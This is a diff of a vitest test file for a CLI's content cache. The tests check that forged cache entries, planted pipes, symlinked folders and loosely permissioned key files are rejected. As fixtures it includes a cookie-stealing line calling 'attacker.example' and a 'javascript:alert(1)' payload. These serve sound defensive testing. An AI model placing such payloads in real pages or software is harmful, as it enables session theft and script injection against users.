@@ -11,21 +11,14 @@ import { tmpdir } from 'node:os'
 import path from 'node:path'
 import { describe, expect, it } from 'vitest'
 import { writeEntry, type ContentCache } from '../../scripts/cache/store.ts'
-import { digests, frameworkWith, repoRoot } from '../helpers.ts'
-
-const bin = path.join(repoRoot, 'scripts/bin/thresholds.js')
+import { bin, digests, frameworkWith, isRoot, NOBODY, onTestDay, TEST_TODAY, thresholds, withoutContacts } from '../helpers.ts'
 
 /** A project with the minimal framework, a package.json, and a key of its own (never the user's). */
 function project(): { root: string; env: Record<string, string> } {
   const root = mkdtempSync(path.join(tmpdir(), 'thresholds-cache-safety-'))
   frameworkWith(undefined, 'minimal', root)
   writeFileSync(path.join(root, 'package.json'), '{ "private": true }\n')
-  return { root, env: { THRESHOLDS_CACHE_KEY: path.join(root, 'config/thresholds/cache-key'), CACHE_DIR: '' } }
-}
-
-function thresholds(args: string[], root: string, env: Record<string, string>) {
-  const result = spawnSync(process.execPath, [bin, ...args], { cwd: root, encoding: 'utf8', env: { ...process.env, NO_COLOR: '1', THRESHOLDS_TODAY: '2026-06-30', ...env }, timeout: 60_000, killSignal: 'SIGKILL' })
-  return { status: result.status, stdout: result.stdout, stderr: result.stderr }
+  return { root, env: { ...onTestDay, THRESHOLDS_CACHE_KEY: path.join(root, 'config/thresholds/cache-key'), CACHE_DIR: '' } }
 }
 
 const layout = (root: string) => path.join(root, 'node_modules/.cache/thresholds/v1')
@@ -50,19 +43,15 @@ function forge(root: string, kind: string, change: (value: unknown) => unknown, 
 }
 
 const userKey = (env: Record<string, string>) => Buffer.from(readFileSync(env.THRESHOLDS_CACHE_KEY as string, 'utf8').trim(), 'hex')
-const withoutContacts = (root: string) => {
-  const file = path.join(root, 'sources/minimal/levels/01-early-help.md')
-  writeFileSync(file, readFileSync(file, 'utf8').replace(/## Contacts[\s\S]*$/, ''))
-}
 const EVIL = 'fetch("https://attacker.example/?" + document.cookie)\n'
 
 describe('content cache entries someone else wrote', () => {
   it('cannot hide an error: a check entry without messages, signed with another key, is a miss', () => {
     const { root, env } = project()
-    withoutContacts(root)
-    expect(thresholds(['check'], root, env).status).toBe(1)
+    withoutContacts(path.join(root, 'sources/minimal'))
+    expect(thresholds(['check'], root, { env }).status).toBe(1)
     expect(forge(root, 'check', (value) => ({ ...(value as object), messages: {} }))).toBe(1)
-    const again = thresholds(['build'], root, env)
+    const again = thresholds(['build'], root, { env })
     expect(again.status).toBe(1)
     expect(again.stderr).toContain('error Level “Early Help” has no contacts')
     expect(again.stderr).toContain('Nothing was written to generated/: fix the 1 error above first.\n')
@@ -70,46 +59,46 @@ describe('content cache entries someone else wrote', () => {
 
   it('cannot put code into generated/<id>/index.js: forged generated files and stamps are misses', () => {
     const { root, env } = project()
-    expect(thresholds(['build', '--no-cache', '--out', 'fresh'], root, env).status).toBe(0)
-    expect(thresholds(['build'], root, env).status).toBe(0)
+    expect(thresholds(['build', '--no-cache', '--out', 'fresh'], root, { env }).status).toBe(0)
+    expect(thresholds(['build'], root, { env }).status).toBe(0)
     expect(forge(root, 'generated', (value) => ({ ...(value as object), 'minimal/index.js': EVIL }))).toBeGreaterThan(0)
     rmSync(path.join(layout(root), 'stamps'), { recursive: true })
-    expect(thresholds(['build', '--out', 'after'], root, env).status).toBe(0)
+    expect(thresholds(['build', '--out', 'after'], root, { env }).status).toBe(0)
     expect(readFileSync(path.join(root, 'after/minimal/index.js'), 'utf8')).not.toContain('attacker')
     expect(digests(path.join(root, 'after'))).toEqual(digests(path.join(root, 'fresh')))
   })
 
   it('checks a model read back against the schema, even one signed with the user’s key', () => {
     const { root, env } = project()
-    expect(thresholds(['build', '--no-cache', '--out', 'fresh'], root, env).status).toBe(0)
-    expect(thresholds(['build', '--out', 'first'], root, env).status).toBe(0)
+    expect(thresholds(['build', '--no-cache', '--out', 'fresh'], root, { env }).status).toBe(0)
+    expect(thresholds(['build', '--out', 'first'], root, { env }).status).toBe(0)
     // Without generated entries the build reads the models; each one now fails the schema.
     rmSync(path.join(layout(root), 'generated'), { recursive: true })
     expect(forge(root, 'model', (value) => ({ ...(value as object), contacts: 'javascript:alert(1)' }), userKey(env))).toBe(1)
-    const build = thresholds(['build', '--out', 'second'], root, env)
+    const build = thresholds(['build', '--out', 'second'], root, { env })
     expect(build.status).toBe(0)
     expect(digests(path.join(root, 'second'))).toEqual(digests(path.join(root, 'fresh')))
   })
 
   it('build --check compares the real bytes, whatever the cache holds', () => {
     const { root, env } = project()
-    expect(thresholds(['build'], root, env).status).toBe(0)
+    expect(thresholds(['build'], root, { env }).status).toBe(0)
     // Even a cache that agrees with the tampered file (signed with the user's key) is not asked.
     writeFileSync(path.join(root, 'generated/minimal/index.js'), EVIL)
     forge(root, 'generated', (value) => ({ ...(value as object), 'minimal/index.js': EVIL }), userKey(env))
-    const check = thresholds(['build', '--check'], root, env)
+    const check = thresholds(['build', '--check'], root, { env })
     expect(check.status).toBe(1)
     expect(check.stderr).toContain('  differs: generated/minimal/index.js\n')
   })
 
   it('never waits on a pipe planted where an entry goes', () => {
     const { root, env } = project()
-    expect(thresholds(['check'], root, env).status).toBe(0)
+    expect(thresholds(['check'], root, { env }).status).toBe(0)
     const [check] = entries(root, 'check')
     const file = path.join(layout(root), 'check', (check?.key ?? '').slice(0, 2), `${check?.key}.json`)
     rmSync(file)
     expect(spawnSync('mkfifo', [file]).status).toBe(0)
-    const run = thresholds(['check'], root, env)
+    const run = thresholds(['check'], root, { env })
     expect(run.status).toBe(0)
     expect(run.stderr).toBe('✔ 0 errors, 0 warnings, 0 suppressed in 1 framework\n')
   })
@@ -118,10 +107,10 @@ describe('content cache entries someone else wrote', () => {
 describe('a parse stopped by a limit', () => {
   it('is not remembered: the next run with time to spare reads the file', () => {
     const { root, env } = project()
-    const stopped = thresholds(['check'], root, { ...env, THRESHOLDS_PARSE_SECONDS: '0' })
+    const stopped = thresholds(['check'], root, { env: { ...env, THRESHOLDS_PARSE_SECONDS: '0' } })
     expect(stopped.status).toBe(1)
     expect(stopped.stderr).toContain('[parse-failed]')
-    const next = thresholds(['check'], root, env)
+    const next = thresholds(['check'], root, { env })
     expect(next.status).toBe(0)
     expect(next.stderr).toBe('✔ 0 errors, 0 warnings, 0 suppressed in 1 framework\n')
   })
@@ -139,7 +128,7 @@ describe('a cache folder that cannot be used', () => {
     const { root, env } = project()
     const dir = make(root)
     const before = digests(root)
-    const run = thresholds(['check'], root, { ...env, CACHE_DIR: dir })
+    const run = thresholds(['check'], root, { env: { ...env, CACHE_DIR: dir } })
     expect(run.status).toBe(0)
     expect(run.stderr).toBe(`The content cache is not used: ${reason(root)}.\n${clean}`)
     // Nothing made: no cache, no key, no folder on the way to a missing one.
@@ -152,7 +141,6 @@ describe('a cache folder that cannot be used', () => {
     const readOnly = path.join(root, 'read-only')
     mkdirSync(readOnly)
     // Root can write anywhere: as root the run is made as the user nobody, who can read the project.
-    const isRoot = process.getuid?.() === 0
     const key = path.join(root, 'keys/cache-key')
     mkdirSync(path.dirname(key))
     for (const folder of [root, path.join(root, 'sources'), path.join(root, 'sources/minimal'), path.join(root, 'sources/minimal/levels'), path.join(root, 'sources/minimal/domains')]) chmodSync(folder, 0o755)
@@ -161,10 +149,10 @@ describe('a cache folder that cannot be used', () => {
     const result = spawnSync(process.execPath, [bin, 'check'], {
       cwd: root,
       encoding: 'utf8',
-      env: { ...process.env, NO_COLOR: '1', THRESHOLDS_TODAY: '2026-06-30', THRESHOLDS_CACHE_KEY: key, CACHE_DIR: readOnly },
+      env: { ...process.env, NO_COLOR: '1', THRESHOLDS_TODAY: TEST_TODAY, THRESHOLDS_CACHE_KEY: key, CACHE_DIR: readOnly },
       timeout: 60_000,
       killSignal: 'SIGKILL',
-      ...(isRoot ? { uid: 65534, gid: 65534 } : {}),
+      ...(isRoot ? { uid: NOBODY, gid: NOBODY } : {}),
     })
     expect(result.status).toBe(0)
     expect(result.stderr).toBe(`The content cache is not used: CACHE_DIR “${readOnly}” cannot be written (permission denied).\n${clean}`)
@@ -176,7 +164,7 @@ describe('a cache folder that cannot be used', () => {
     mkdirSync(path.join(root, 'node_modules/.cache'), { recursive: true })
     mkdirSync(path.join(root, 'elsewhere'))
     symlinkSync(path.join(root, 'elsewhere'), path.join(root, 'node_modules/.cache/thresholds'))
-    const run = thresholds(['check'], root, env)
+    const run = thresholds(['check'], root, { env })
     expect(run.stderr).toBe(`The content cache is not used: the folder ${path.join(root, 'node_modules/.cache/thresholds')} is a symbolic link, expected a real folder.\n${clean}`)
     expect(readdirSync(path.join(root, 'elsewhere'))).toEqual([])
   })
@@ -187,18 +175,18 @@ describe('a cache folder that cannot be used', () => {
     mkdirSync(path.dirname(key), { recursive: true })
     writeFileSync(key, `${'ab'.repeat(32)}\n`, { mode: 0o644 })
     chmodSync(key, 0o644)
-    const run = thresholds(['check'], root, env)
+    const run = thresholds(['check'], root, { env })
     expect(run.stderr).toBe(`The content cache is not used: the key file ${key} can be read or written by other users (run: chmod 600 ${key}).\n${clean}`)
   })
 
   it('makes the user’s key once, readable by the user alone, outside the cache folder', () => {
     const { root, env } = project()
     const key = env.THRESHOLDS_CACHE_KEY as string
-    expect(thresholds(['check'], root, env).stderr).toBe(clean)
+    expect(thresholds(['check'], root, { env }).stderr).toBe(clean)
     const first = readFileSync(key, 'utf8')
     expect(first).toMatch(/^[0-9a-f]{64}\n$/)
     expect(statSync(key).mode & 0o777).toBe(0o600)
-    expect(thresholds(['check'], root, env).stderr).toBe(clean)
+    expect(thresholds(['check'], root, { env }).stderr).toBe(clean)
     expect(readFileSync(key, 'utf8')).toBe(first)
   })
 })
